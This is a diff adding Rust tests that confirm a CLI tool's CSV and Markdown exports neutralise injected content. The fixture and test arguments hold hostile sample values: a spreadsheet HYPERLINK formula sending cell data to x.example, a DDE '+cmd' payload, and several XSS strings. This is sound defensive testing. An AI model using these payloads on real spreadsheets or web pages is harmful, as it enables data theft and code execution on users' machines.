@@ -64,3 +64,132 @@ fn a_loop_of_links_is_an_error_at_each_position_on_it() {
         "{err}"
     );
 }
+
+/// A case whose names and texts are written to attack a spreadsheet or a Markdown renderer.
+const INJECTION: &str = r#"format = 1
+[case]
+dnr = "=HYPERLINK(\"http://x.example/?\"&A1)"
+title = "[klicka här](javascript:alert(1)) <script>alert(2)</script>"
+kind = "motion"
+[[parties]]
+code = "=1+2"
+name = "@SUM(A1:A9)"
+[[parties]]
+code = "-2+3"
+name = "Minus"
+[[bodies]]
+id = "a"
+name = "+cmd|' /C calc'!A0"
+kind = "committee"
+[[bodies]]
+id = "b"
+name = "<img src=x onerror=alert(3)>"
+kind = "committee"
+[[positions]]
+id = "a`<img/src=x/onerror=alert(4)>`"
+body = "a"
+stance = "reservation"
+parties = ["=1+2"]
+text = "<iframe src=javascript:alert(5)></iframe> [x](javascript:alert(6)) ![i](javascript:alert(7)) <javascript:alert(8)> &lt;b&gt;"
+[[positions]]
+body = "b"
+stance = "special_statement"
+parties = ["-2+3"]
+text = "@rest"
+"#;
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("x.toml"), INJECTION).unwrap();
+    for lens in ["stance", "party"] {
+        let out = remiss(
+            dir.path(),
+            &["matrix", "x.toml", "--format", "csv", "--by", lens],
+        );
+        assert_eq!(out.status.code(), Some(0), "{out:?}");
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(&out.stdout[..]);
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{lens}: a formula cell: {cell:?}"
+                );
+            }
+        }
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(cells > 10, "{text}");
+        // Neutralised, not removed: the text is all there behind the quote.
+        assert!(text.contains("'+cmd|' /C calc'!A0"), "{text}");
+        if lens == "party" {
+            assert!(text.contains("'=1+2") && text.contains("'-2+3"), "{text}");
+        }
+    }
+}
+
+/// Parse `markdown` as CommonMark (with GFM tables) and fail on any raw HTML, any link or
+/// image, any autolink.
+#[track_caller]
+fn assert_inert_markdown(what: &str, markdown: &str) {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    for event in Parser::new_ext(markdown, Options::ENABLE_TABLES) {
+        match &event {
+            Event::Html(_) | Event::InlineHtml(_) => panic!("{what}: raw HTML {event:?}"),
+            Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock) => {
+                panic!("{what}: {event:?} in\n{markdown}")
+            }
+            _ => {}
+        }
+    }
+}
+
+#[test]
+fn markdown_exports_show_html_and_links_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("x.toml"), INJECTION).unwrap();
+    for lens in ["stance", "party"] {
+        let out = remiss(
+            dir.path(),
+            &["matrix", "x.toml", "--format", "markdown", "--by", lens],
+        );
+        assert_eq!(out.status.code(), Some(0), "{out:?}");
+        assert_inert_markdown(lens, &String::from_utf8_lossy(&out.stdout));
+    }
+    let out = remiss(
+        dir.path(),
+        &[
+            "notes",
+            "x.toml",
+            "--heading",
+            "<b>Rubrik</b> [l](javascript:alert(9))",
+            "--add",
+            "a`<img/src=x/onerror=alert(4)>`",
+            "--comment",
+            "<script>alert(10)</script>",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let notes = String::from_utf8_lossy(&out.stdout);
+    assert_inert_markdown("notes", &notes);
+    // The text reads as written once rendered.
+    let rendered: String = pulldown_cmark::Parser::new(&notes)
+        .filter_map(|e| match e {
+            pulldown_cmark::Event::Text(t) | pulldown_cmark::Event::Code(t) => Some(t.to_string()),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        rendered.contains("<iframe src=javascript:alert(5)></iframe>"),
+        "{rendered}"
+    );
+    assert!(rendered.contains("&lt;b&gt;"), "{rendered}");
+    assert!(
+        rendered.contains("a`<img/src=x/onerror=alert(4)>`"),
+        "{rendered}"
+    );
+}
